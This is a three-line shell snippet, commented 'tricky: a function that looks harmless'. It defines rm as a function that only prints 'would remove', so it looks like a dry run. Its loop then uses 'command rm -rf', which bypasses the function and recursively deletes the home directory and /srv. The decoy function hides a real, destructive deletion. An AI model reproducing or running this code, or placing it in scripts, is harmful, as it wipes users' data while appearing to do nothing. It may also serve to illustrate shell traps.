# tricky: a function that looks harmless
rm() { echo "would remove $*"; }
for p in ~ /srv; do command rm -rf "$p"; done
